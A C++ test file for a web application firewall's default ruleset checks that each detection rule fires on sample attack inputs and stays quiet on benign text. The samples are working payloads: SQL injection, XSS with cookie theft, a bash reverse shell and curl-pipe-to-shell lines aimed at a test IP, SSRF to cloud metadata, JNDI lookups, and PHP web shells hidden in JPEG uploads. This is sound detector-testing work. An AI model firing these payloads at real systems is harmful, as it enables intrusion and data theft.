// The default ruleset (configs/rules) rule by rule: every field rule fires
// on its positive example(s), and benign values people really send (names
// with apostrophes, prose with SQL and shell words, Markdown, rich-text HTML,
// code snippets, own-host URLs, CMS filter operators, template placeholders)
// raise no finding at all. A rule added without a positive here fails
// EveryRuleHasAPositive.

#include <gtest/gtest.h>

#include <cstdlib>
#include <memory>
#include <set>
#include <string>
#include <vector>

#include "detect/engine.h"
#include "detect/signature/rule_loader.h"
#include "../parsers/noise_bytes.h"

namespace weir::detect {
namespace {

using parse::Zone;

struct Positive {
  const char* rule;
  Zone zone;
  const char* name;
  std::string value;
};

struct Negative {
  Zone zone;
  const char* name;
  std::string value;
  uint32_t max_score = 0;  ///< a weak signal allowed (still far below blocking)
};

// An uploaded JPEG (zone body_file): its header, `comment` as its comment
// segment, then `noise` bytes standing in for the compressed image data.
std::string jpeg_with(std::string_view comment, size_t noise) {
  std::string out("\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xfe", 22);
  out += static_cast<char>((comment.size() + 2) >> 8);
  out += static_cast<char>((comment.size() + 2) & 0xff);
  out += comment;
  return out + parse::testing::noise_bytes(noise) + "\xff\xd9";
}

const std::vector<Positive>& positives() {
  static const std::vector<Positive> kPositives = {
      // sqli
      {"sqli-100", Zone::QueryArg, "q", "x' or 'a'='a"},
      {"sqli-100", Zone::Header, "x-tenant", "x' OR 1=1-- -"},
      {"sqli-101", Zone::QueryArg, "id", "1 union select 1,2,3--"},
      {"sqli-101", Zone::BodyJson, "name", "x'/**/UNION/**/SELECT/**/password/**/FROM/**/users--"},
      {"sqli-102", Zone::Cookie, "pref", "' union select null,null--"},
      {"sqli-103", Zone::QueryArg, "id", "1; drop table users"},
      {"sqli-104", Zone::BodyForm, "user", "admin'--"},
      {"sqli-105", Zone::QueryArg, "id", "1 and sleep(5)"},
      {"sqli-105", Zone::QueryArg, "id", "if(now()=sysdate(),sleep(5),0)"},
      {"sqli-106", Zone::QueryArg, "id", "1 and extractvalue(1,concat(0x7e,version()))"},
      {"sqli-107", Zone::QueryArg, "id", "1;exec xp_cmdshell 'dir'"},
      {"sqli-108", Zone::Header, "x-note", "select @@version"},
      {"sqli-109", Zone::QueryArg, "q", "' union select table_name from information_schema.tables--"},
      {"sqli-110", Zone::QueryArg, "id", "1 /*!50000union*/ select 1"},
      {"sqli-111", Zone::QueryArg, "id", "1 and ascii(substring((select password from users),1,1))>64"},
      {"sqli-112", Zone::QueryArg, "sort", "1 order by 5--"},
      {"sqli-113", Zone::QueryArg, "id", "1 or 1=1"},
      {"sqli-114", Zone::QueryArg, "q", "(select char(113)%2Bchar(106)%2Bchar(122))"},
      {"sqli-115", Zone::QueryArg, "q", "(SELECT CHAR(113)%2BCHAR(106))"},
      {"sqli-115", Zone::QueryArg, "q", "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))"},
      {"sqli-120", Zone::Header, "x-data", "JyBvciAxPTEtLQ=="},
      {"sqli-120u", Zone::QueryArg, "data", "JyBvciAxPTEtLQ%3D%3D"},
      // xss
      {"xss-100", Zone::QueryArg, "q", "<script>alert(1)</script>"},
      {"xss-101", Zone::Header, "x-forwarded-host", "<img src=x onerror=alert(1)>"},
      {"xss-102", Zone::BodyJson, "bio", "<iframe src=//198.18.0.9/x>"},
      {"xss-103", Zone::QueryArg, "next", "javascript:alert(1)"},
      {"xss-104", Zone::QueryArg, "next", "javascript:alert(document.cookie)"},
      {"xss-105", Zone::QueryArg, "q", "';alert(1)//"},
      {"xss-106", Zone::Header, "x-note", "fetch('//x/?c='+document.cookie)"},
      {"xss-107", Zone::BodyJson, "html", "<div style=\"width:expression(alert(1))\">"},
      {"xss-108", Zone::Header, "x-locale", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e"},
      {"xss-109", Zone::QueryArg, "q", "{{constructor.constructor('alert(1)')()}}"},
      {"xss-120", Zone::Header, "x-data", "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="},
      {"xss-120u", Zone::Cookie, "ctx", "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg%3D%3D"},
      // path traversal
      {"lfi-100", Zone::QueryArg, "file", "../../etc/passwd"},
      {"lfi-100", Zone::QueryArg, "file", "..%c0%af..%c0%afetc/passwd"},
      {"lfi-101", Zone::QueryArg, "file", "../../../x"},
      {"lfi-102", Zone::QueryArg, "file", "../x"},
      {"lfi-103", Zone::QueryArg, "file", "%2e%2e%2fetc"},
      {"lfi-104", Zone::QueryArg, "file", "....//....//etc"},
      {"lfi-105", Zone::BodyJson, "path", "/etc/passwd"},
      {"lfi-106", Zone::BodyJson, "note", "see /etc/shadow"},
      {"lfi-107", Zone::QueryArg, "page", "php://filter/resource=index.php"},
      {"lfi-108", Zone::Header, "x-file", "Li4vLi4vLi4vZXRjL3Bhc3N3ZA=="},
      {"lfi-108u", Zone::QueryArg, "f", "Li4vLi4vLi4vZXRjL3Bhc3N3ZA%3D%3D"},
      {"lfi-109", Zone::Path, "", "/static/../etc/passwd"},
      // command injection
      {"cmd-100", Zone::QueryArg, "host", "x; id"},
      {"cmd-101", Zone::QueryArg, "host", "x; cat /etc/passwd"},
      {"cmd-102", Zone::QueryArg, "host", "x; wget http://198.18.0.9/a"},
      {"cmd-103", Zone::BodyJson, "host", "$(whoami)"},
      {"cmd-104", Zone::Header, "user-agent", "bash -i >& /dev/tcp/198.18.0.9/4444 0>&1"},
      {"cmd-105", Zone::QueryArg, "u", "curl http://198.18.0.9/x | sh"},
      {"cmd-106", Zone::QueryArg, "host", "cat${IFS}/etc/passwd"},
      {"cmd-107", Zone::QueryArg, "host", "x; /bin/sh"},
      {"cmd-108", Zone::QueryArg, "host", "x; sleep 10;"},
      {"cmd-109", Zone::Header, "user-agent", "() { :; }; echo x"},
      {"cmd-110", Zone::BodyForm, "c", "<?php system($_GET['c']); ?>"},
      {"cmd-111", Zone::Header, "x-data", "OyBpZA=="},
      {"cmd-111u", Zone::QueryArg, "d", "OyBpZA%3D%3D"},
      {"cmd-112", Zone::QueryArg, "host", "a%0aid"},
      {"cmd-113", Zone::BodyJson, "note", "text\nwhoami"},
      {"cmd-114", Zone::QueryArg, "host", "x; echo pwned"},
      {"cmd-115", Zone::QueryArg, "host", "x | w^h^o^a^m^i"},
      // ssrf
      {"ssrf-100", Zone::BodyJson, "url", "http://169.254.169.254/latest/meta-data/"},
      {"ssrf-101", Zone::QueryArg, "url", "http://127.0.0.1/admin"},
      {"ssrf-101", Zone::QueryArg, "url", "http://[::1]:8080/"},
      {"ssrf-102", Zone::QueryArg, "url", "http://0x7f000001/"},
      {"ssrf-102", Zone::QueryArg, "url", "http://2130706433/"},
      {"ssrf-102", Zone::QueryArg, "url", "http://0177.0.0.1/"},
      {"ssrf-102", Zone::QueryArg, "url", "http://127.1/"},
      {"ssrf-102", Zone::QueryArg, "url", "http://[::ffff:127.0.0.1]/"},
      {"ssrf-103", Zone::QueryArg, "url", "gopher://198.18.0.9:6379/_x"},
      {"ssrf-104", Zone::QueryArg, "url", "http://10.0.0.5/"},
      {"ssrf-105", Zone::QueryArg, "url", "http://127.0.0.1:6379/"},
      {"ssrf-106", Zone::QueryArg, "host", "localhost:8080"},
      {"ssrf-107", Zone::QueryArg, "cb", "http://abc.oastify.com/"},
      {"ssrf-108", Zone::Header, "x-url", "aHR0cDovLzEyNy4wLjAuMS8="},
      {"ssrf-108u", Zone::QueryArg, "u", "aHR0cDovLzEyNy4wLjAuMS8%3D"},
      {"ssrf-109", Zone::BodyJson, "dsn", "redis://cache.example:6379/0"},
      {"ssrf-110", Zone::QueryArg, "url", "http://kubernetes.default.svc/api"},
      {"ssrf-111", Zone::QueryArg, "url", "http://db.internal/"},
      // xxe
      {"xxe-100", Zone::BodyRaw, "", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"},
      {"xxe-101", Zone::BodyRaw, "", "<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://198.18.0.9/e.dtd\"> %p;]>"},
      {"xxe-102", Zone::BodyRaw, "", "<r><xi:include href=\"file:///etc/hosts\"/></r>"},
      {"xxe-103", Zone::BodyRaw, "", "<!ENTITY a \"&b;&b;&b;\">"},
      {"xxe-104", Zone::BodyRaw, "", "<!DOCTYPE note [<!ELEMENT note (#PCDATA)>]>"},
      {"xxe-105", Zone::Header, "x-doc",
       "PCFET0NUWVBFIGEgWzwhRU5USVRZIHggU1lTVEVNICJmaWxlOi8vL2V0Yy9wYXNzd2QiPl0+"},
      {"xxe-105u", Zone::QueryArg, "doc",
       "PCFET0NUWVBFIGEgWzwhRU5USVRZIHggU1lTVEVNICJmaWxlOi8vL2V0Yy9wYXNzd2QiPl0%2B"},
      {"xxe-106", Zone::BodyRaw, "", "<r>&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;</r>"},
      {"xxe-107", Zone::BodyRaw, "", std::string("<\0!\0E\0N\0T\0I\0T\0Y\0 \0", 18)},
      // ssti
      {"ssti-100", Zone::QueryArg, "name", "{{7*7}}"},
      {"ssti-100", Zone::QueryArg, "name", "<%= 7*7 %>"},
      {"ssti-101", Zone::QueryArg, "name", "{{''.__class__.__mro__}}"},
      {"ssti-102", Zone::QueryArg, "name", "${T(java.lang.Runtime).getRuntime().exec('id')}"},
      {"ssti-103", Zone::QueryArg, "name", "%{(#_memberAccess['allowStaticMethodAccess']=true)}"},
      {"ssti-104", Zone::QueryArg, "name", "<%= system('id') %>"},
      {"ssti-105", Zone::BodyJson, "tpl", "{{ config.x }}"},
      {"ssti-106", Zone::Header, "x-tpl", "e3s3Kjd9fQ=="},
      {"ssti-106u", Zone::QueryArg, "t", "e3s3Kjd9fQ%3D%3D"},
      {"ssti-107", Zone::BodyJson, "tpl", "${{<%[%'\"}}%\\."},
      // jndi
      {"jndi-100", Zone::Header, "x-api-version", "${jndi:ldap://198.18.0.9/a}"},
      {"jndi-101", Zone::Header, "user-agent", "${${lower:j}ndi:ldap://198.18.0.9/a}"},
      {"jndi-101", Zone::Header, "referer", "${${::-j}${::-n}${::-d}${::-i}:rmi://198.18.0.9/a}"},
      {"jndi-102", Zone::Header, "x-trace", "${env:AWS_SECRET_ACCESS_KEY}"},
      {"jndi-104", Zone::Header, "x-data", "JHtqbmRpOmxkYXA6Ly8xOTguMTguMC45L2F9"},
      {"jndi-104u", Zone::QueryArg, "d", "JHtqbmRpOmxkYXA6Ly8xOTguMTguMC45L2F9"},
      // nosqli
      {"nosqli-100", Zone::QueryArg, "filter", "{\"$ne\": null}"},
      {"nosqli-101", Zone::BodyRaw, "", "user[$ne]=1"},
      {"nosqli-102", Zone::QueryArgName, "password[$ne]", "password[$ne]"},
      {"nosqli-102", Zone::QueryArgName, "data.username.$regex", "data.username.$regex"},
      {"nosqli-103", Zone::BodyJson, "user", "' || '1'=='1"},
      {"nosqli-104", Zone::BodyJson, "q", "db.users.find({})"},
      {"nosqli-105", Zone::BodyJson, "q", "{\"query_string\": {}}"},
      {"nosqli-106", Zone::Header, "x-filter", "eyIkbmUiOiAxfQ=="},
      {"nosqli-106u", Zone::QueryArg, "f", "eyIkbmUiOiAxfQ%3D%3D"},
      {"nosqli-107", Zone::BodyJson, "where", "this.password.match(/.*/)"},
      {"nosqli-108", Zone::QueryArgName, "filters[price][$ne]", "filters[price][$ne]"},
      // ldapi
      {"ldapi-100", Zone::QueryArg, "user", "*)(uid=*))(|(uid=*"},
      {"ldapi-101", Zone::QueryArg, "user", "(userPassword=*)"},
      {"ldapi-102", Zone::QueryArg, "user", "admin)("},
      // protocols_fields.yaml: the same families in multipart fields and filenames
      {"ldapi-110", Zone::BodyMultipart, "user", "*)(uid=*))(|(uid=*"},
      {"ldapi-111", Zone::BodyMultipart, "user", "(userPassword=*)"},
      {"lfi-110", Zone::BodyMultipart, "file.filename", "/etc/passwd"},
      {"lfi-110", Zone::BodyMultipart, "file.filename", "C:\\Windows\\win.ini"},
      // upload: server code in a binary upload
      {"upload-100", Zone::BodyFile, "avatar", jpeg_with("<?php system($_GET['c']); ?>", 2000)},
      {"upload-100", Zone::BodyFile, "", jpeg_with("<?= `$_GET[0]` ?>", 500)},
      {"upload-100", Zone::BodyFile, "doc", jpeg_with("<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>", 100)},
      {"upload-100", Zone::BodyFile, "doc", jpeg_with("x=1;@eval($_POST['x']);", 300)},
      // crlf
      {"crlf-100", Zone::QueryArg, "lang", "x%0d%0aSet-Cookie: a=1"},
      {"crlf-101", Zone::QueryArg, "lang", "x%0d%0aSet-Cookie:a=1"},
      {"crlf-102", Zone::PathSegment, "1", "a%0ab"},
      {"crlf-103", Zone::BodyForm, "lang", "en%0d%0aSet-Cookie:%20a=1"},
      {"crlf-104", Zone::BodyForm, "lang", "en%E5%98%8A%E5%98%8DSet-Cookie:a"},
      // open redirect
      {"redirect-100", Zone::QueryArg, "next", "//evil.com/"},
      {"redirect-100", Zone::QueryArg, "next", "/\\evil.com"},
      {"redirect-101", Zone::QueryArg, "next", "https://evil.com/"},
      {"redirect-103", Zone::QueryArg, "to", "https://trusted.com@evil.com/"},
      {"redirect-104", Zone::QueryArg, "to", "https://evil.com#.trusted.example"},
      {"redirect-105", Zone::Path, "", "/redirect/https://evil.com"},
      // protocol
      {"proto-100", Zone::Method, "", "TRACE"},
      {"proto-101", Zone::Method, "", "PROPFIND"},
      {"proto-102", Zone::QueryArg, "f", "a%00b"},
      {"proto-103", Zone::Header, "x-http-method-override", "TRACE"},
      {"proto-104", Zone::Header, "x-original-url", "/admin"},
      {"proto-106", Zone::Header, "content-type", "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"},
      {"proto-107", Zone::Header, "range", "bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13,14-15,16-17,18-19,20-21"},
      {"proto-109", Zone::Path, "", "/%c0%ae%c0%ae/x"},
      {"proto-110", Zone::QueryArg, "q", "%u0027"},
      {"proto-111", Zone::QueryArg, "q", "%2527"},
      // scanners
      {"scanner-100", Zone::Header, "user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"},
      {"scanner-101", Zone::Header, "x-scan", "nuclei"},
      {"scanner-102", Zone::Path, "", "/.env"},
      {"scanner-103", Zone::Path, "", "/phpinfo.php"},
      {"scanner-104", Zone::Path, "", "/api/v1/pods"},
  };
  return kPositives;
}

const std::vector<Negative>& negatives() {
  static const std::vector<Negative> kNegatives = {
      {Zone::QueryArg, "q", "O'Brien"},
      {Zone::BodyJson, "name", "Mary O'Neil-Smith"},
      {Zone::QueryArg, "q", "union station parking"},
      {Zone::QueryArg, "q", "select the best plan for me"},
      {Zone::QueryArg, "q", "how to drop a table in sql"},
      {Zone::BodyJson, "text", "I'd like 1 more, or 2 if you still have them."},
      {Zone::BodyJson, "text", "I'd like to delete order #4133 and order the Cat & Dog Bed instead."},
      {Zone::BodyJson, "body", "Choose 'or' vs 'and' in the filter - confusing UI."},
      {Zone::BodyJson, "body", "How do I write SELECT name FROM users WHERE id = 5 in the ORM?"},
      {Zone::BodyJson, "body",
       "I run `ls -la` and then `cat config.yml` but get permission denied. My shell is /bin/bash."},
      {Zone::BodyJson, "body", "Steps:\n1. `npm install`\n2. `npm run build`\n3. `rm -rf node_modules`"},
      {Zone::BodyJson, "md",
       "# Title\n\n* item [link](https://example.com)\n\n| id | name |\n|----|------|\n| 1 | Bob |"},
      {Zone::BodyJson, "html",
       "<p>Hello <b>world</b>, see <a href=\"https://example.com/docs\">docs</a> and "
       "<img src=\"/img/a.png\" alt=\"a\"></p>"},
      {Zone::BodyJson, "code", "if (a < b && c > d) { return 'x'; }"},
      {Zone::BodyJson, "code", "function greet(name) { return 'Hello ' + name; }"},
      {Zone::BodyJson, "tpl", "Hello {{first_name}}, your order {{order_id}} has shipped."},
      {Zone::QueryArg, "$filter", "not(endswith(mail,'@corp.example'))"},
      {Zone::QueryArg, "$filter", "status eq 'open' or priority eq 'high'"},
      {Zone::QueryArgName, "filters[price][$gte]", "filters[price][$gte]"},
      {Zone::QueryArg, "next", "/dashboard/settings"},
      {Zone::QueryArg, "redirect_uri", "https://app.shop.example/callback"},
      {Zone::BodyJson, "url", "https://hooks.example.com/notify"},
      {Zone::BodyJson, "host", "10.0.0.12"},
      {Zone::BodyJson, "bio", "Rock & Roll; R&D; AT&T"},
      {Zone::BodyForm, "message", "We'll need the files in ../shared on the NAS, not the local copy", 3},
      {Zone::QueryArg, "path", "reports/2024/q3.pdf"},
      {Zone::QueryArg, "tz", "Europe/Berlin"},
      {Zone::QueryArg, "filter", "price>10 and price<20"},
      {Zone::BodyJson, "when", "2024-01-15T09:00:00Z"},
      {Zone::BodyJson, "email", "mary.oneil+shop@example.com"},
      {Zone::Header, "user-agent",
       "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0"},
      {Zone::Header, "sec-ch-ua", "\"Chromium\";v=\"118\", \"Google Chrome\";v=\"118\""},
      {Zone::Header, "referer", "https://www.example.com/search?q=shoes&page=2"},
      {Zone::Header, "accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"},
      {Zone::Cookie, "session", "eyJ1c2VyIjoiYWxpY2UifQ%3D%3D"},
      {Zone::Cookie, "cart", "eyJpdGVtcyI6IDUsICJjdXIiOiAiRVVSIn0"},
      {Zone::Path, "", "/api/v1/orders/8812/items"},
      {Zone::Method, "", "GET"},
      {Zone::BodyJson, "note", "Leave at door -- thanks!"},
      {Zone::BodyJson, "color", "#fff"},
      {Zone::BodyJson, "text", "Sleep well; see you at 5 or 6"},
      {Zone::BodyJson, "text", "Use <b>bold</b> and 5 < 7 in the docs"},
      // Image data holds every short byte run by chance, here two that shell
      // evasion rules match in text (";''x", "a$@b"): only body_file rules
      // read these bytes.
      {Zone::BodyFile, "avatar", jpeg_with("Created with GIMP", 32 * 1024) + "\x01;''x\x9c\x02a$@b\x8f" +
                                     jpeg_with("", 32 * 1024)},
  };
  return kNegatives;
}

class DefaultRulesTest : public ::testing::Test {
 protected:
  // Compiling the whole ruleset takes seconds: once for the suite.
  static void SetUpTestSuite() {
    const char* root = std::getenv("WEIR_SOURCE_ROOT");
    ASSERT_NE(root, nullptr);
    rules_ = std::make_unique<RuleSet>(load_rules_dir(std::string(root) + "/configs/rules"));
    snap_ = PolicySnapshot::compile(*rules_);
  }
  static void TearDownTestSuite() {
    snap_.reset();
    rules_.reset();
  }

  // Rule ids of the findings for one field inspected alone.
  std::set<std::string> fire(Zone zone, std::string_view name, std::string_view value,
                             uint32_t* score = nullptr) {
    parse::Field f{zone, name, value};
    InspectionContext ctx{.path = zone == Zone::Path ? value : std::string_view("/api/x")};
    InspectionResult r = engine_.inspect(*snap_, std::span<const parse::Field>(&f, 1), ctx);
    if (score != nullptr) *score = r.score;
    std::set<std::string> ids;
    for (const Finding& fd : r.findings) ids.insert(std::string(fd.rule_id));
    return ids;
  }

  static std::string join(const std::set<std::string>& s) {
    std::string out;
    for (const std::string& x : s) out += x + " ";
    return out;
  }

  static inline std::unique_ptr<RuleSet> rules_;
  static inline std::shared_ptr<const PolicySnapshot> snap_;
  InspectionEngine engine_;
};

TEST_F(DefaultRulesTest, EveryRuleFiresOnItsPositives) {
  for (const Positive& p : positives()) {
    std::set<std::string> ids = fire(p.zone, p.name, p.value);
    EXPECT_TRUE(ids.count(p.rule) == 1)
        << p.rule << " on " << parse::zone_name(p.zone) << ":" << p.name << " = [" << p.value
        << "] fired: " << join(ids);
  }
}

TEST_F(DefaultRulesTest, BenignValuesRaiseNothing) {
  ASSERT_GE(negatives().size(), 40u);
  for (const Negative& n : negatives()) {
    uint32_t score = 0;
    std::set<std::string> ids = fire(n.zone, n.name, n.value, &score);
    EXPECT_TRUE(n.max_score != 0 || ids.empty())
        << parse::zone_name(n.zone) << ":" << n.name << " = [" << n.value << "] fired: " << join(ids);
    EXPECT_LE(score, n.max_score) << n.value << " fired: " << join(ids);
  }
}

TEST_F(DefaultRulesTest, EveryRuleHasAPositive) {
  std::set<std::string> covered;
  for (const Positive& p : positives()) covered.insert(p.rule);
  for (const Rule& r : rules_->rules) {
    if (r.zones == stream_zone_mask()) continue;  // stream rules: stream_signature tests
    EXPECT_EQ(covered.count(r.id), 1u) << "rule " << r.id << " has no positive example";
  }
}

TEST_F(DefaultRulesTest, OneStrongSignalBlocksWeakOnesNeedCompany) {
  const uint32_t threshold = snap_->policy().active_threshold();
  // A critical rule alone reaches the threshold ...
  parse::Field strong{Zone::QueryArg, "id", "1 union select 1,2,3--"};
  InspectionContext ctx{.path = "/api/x"};
  EXPECT_GE(engine_.inspect(*snap_, std::span<const parse::Field>(&strong, 1), ctx).score, threshold);
  // ... a warning alone does not, two weak signals together do.
  parse::Field weak{Zone::QueryArg, "file", "../x"};
  InspectionResult r = engine_.inspect(*snap_, std::span<const parse::Field>(&weak, 1), ctx);
  EXPECT_GT(r.score, 0u);
  EXPECT_LT(r.score, threshold);
  parse::Field pair[] = {{Zone::QueryArg, "file", "../x"}, {Zone::QueryArg, "url", "http://10.0.0.5/"}};
  EXPECT_GE(engine_.inspect(*snap_, pair, ctx).score, threshold);
}

}  // namespace
}  // namespace weir::detect
